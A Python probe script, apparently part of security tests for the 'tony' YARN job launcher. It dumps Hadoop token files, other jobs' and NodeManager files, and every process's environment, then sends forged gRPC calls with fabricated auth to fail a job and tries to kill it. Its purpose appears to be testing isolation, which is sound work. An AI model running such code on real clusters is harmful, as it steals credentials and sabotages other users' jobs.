#!/usr/bin/python3
"""Prints, as one line of JSON on stdout, what a task's user process can find of tony's
credentials: its environment, the credentials file YARN names in HADOOP_TOKEN_FILE_LOCATION
(hex), and the content (hex, the first 64 KiB) of every file it can read under its working
directory and wherever tony keeps anything: the job directory and every other job's
($TONY_JOB_DIR/.., $TONY_HOME), the NodeManager's directories of this and other applications
(LOCAL_DIRS' parents) and its nmPrivate/, and the other processes' environments and roots.
With arguments (the tony binary, then any options of its own, such as --backend yarn), it also
tries `tony kill` on its own job.
It also tries the AM's control plane as another task would: on every TCP port listening on this
machine that speaks TLS, it trusts the certificate it is shown and reports worker:1 failed, with the
credentials it could make up (as worker:0, as worker:1, as the client); each call's status code
goes into "rpc".
"""
import concurrent.futures
import json
import os
import socket
import ssl
import subprocess
import sys

import grpc

report = {"env": dict(os.environ), "tokens_hex": "", "files": {}, "pids": [], "kill": None,
          "rpc": []}
tokens = os.environ.get("HADOOP_TOKEN_FILE_LOCATION")
if tokens and os.path.exists(tokens):
    with open(tokens, "rb") as f:
        report["tokens_hex"] = f.read().hex()


def read(path):
    if path in report["files"] or not os.path.isfile(path):
        return
    try:
        with open(path, "rb") as f:
            report["files"][path] = f.read(65536).hex()
    except OSError as e:
        report["files"][path] = "unreadable: " + str(e)


def walk(top, limit=5000):
    for root, dirs, files in os.walk(top):
        for name in files:
            if len(report["files"]) >= limit:
                return
            read(os.path.join(root, name))


roots = ["."]
job_dir = os.environ.get("TONY_JOB_DIR")
if job_dir:
    roots += [job_dir, os.path.dirname(job_dir.rstrip("/"))]
home = os.environ.get("TONY_HOME") or os.path.expanduser("~/.tony")
roots.append(home)
for local_dir in filter(None, os.environ.get("LOCAL_DIRS", "").split(",")):
    appcache = os.path.dirname(local_dir.rstrip("/"))
    nm_root = os.path.dirname(os.path.dirname(os.path.dirname(appcache)))
    roots += [appcache, os.path.join(nm_root, "nmPrivate")]
for top in roots:
    walk(top)

for entry in os.listdir("/proc"):
    if not entry.isdigit():
        continue
    report["pids"].append(int(entry))
    read("/proc/%s/environ" % entry)
    if job_dir:
        read("/proc/%s/root%s/secret" % (entry, job_dir))



def listening():
    """(host, port) of every listening TCP socket of this machine (the task shares its network)."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            if fields[3] != "0A":  # LISTEN
                continue
            address, port = fields[1].rsplit(":", 1)
            if len(address) == 8:
                host = socket.inet_ntop(socket.AF_INET, bytes.fromhex(address)[::-1])
            else:
                host = "127.0.0.1" if address.strip("0") == "" else None
                if host is None:
                    words = [bytes.fromhex(address[i:i + 8])[::-1] for i in range(0, 32, 8)]
                    host = socket.inet_ntop(socket.AF_INET6, b"".join(words))
                    if host.startswith("::ffff:"):
                        host = host[7:]
            found.add(("127.0.0.1" if host == "0.0.0.0" else host, int(port, 16)))
    return sorted(found)


def forge(target):
    host, port = target
    try:
        pem = ssl.get_server_certificate((host, port), timeout=2)
    except (OSError, ValueError):
        return []  # not TLS
    # ReportResultRequest{task: {type: "worker", index: 1}, exit_code: 1}, encoded by hand: taken,
    # it would fail the job.
    task = b"\x0a\x06worker\x10\x01"
    request = b"\x0a" + bytes([len(task)]) + task + b"\x18\x01"
    made_up = "0" * 64
    codes = []
    for auth in ("task worker 0 container_0 " + made_up, "task worker 1 container_1 " + made_up,
                 "job " + made_up, ""):
        channel = grpc.secure_channel(
            "%s:%d" % (host if ":" not in host else "[%s]" % host, port),
            grpc.ssl_channel_credentials(root_certificates=pem.encode()),
            options=[("grpc.ssl_target_name_override", "tony-am")])
        call = channel.unary_unary("/tony.rpc.TonyAm/ReportResult")
        try:
            call(request, metadata=[("x-tony-auth", auth)] if auth else None, timeout=5)
            codes.append("OK")
        except grpc.RpcError as e:
            codes.append(e.code().name)
        channel.close()
    return [{"port": port, "code": code} for code in codes]


with concurrent.futures.ThreadPoolExecutor(32) as pool:
    for attempts in pool.map(forge, listening()):
        report["rpc"] += attempts

if len(sys.argv) > 1 and os.environ.get("JOB_ID"):
    kill = subprocess.run([sys.argv[1], "kill", os.environ["JOB_ID"]] + sys.argv[2:],
                          capture_output=True, text=True, timeout=60)
    report["kill"] = {"code": kill.returncode, "out": kill.stdout + kill.stderr}
print("probe " + json.dumps(report, sort_keys=True), flush=True)
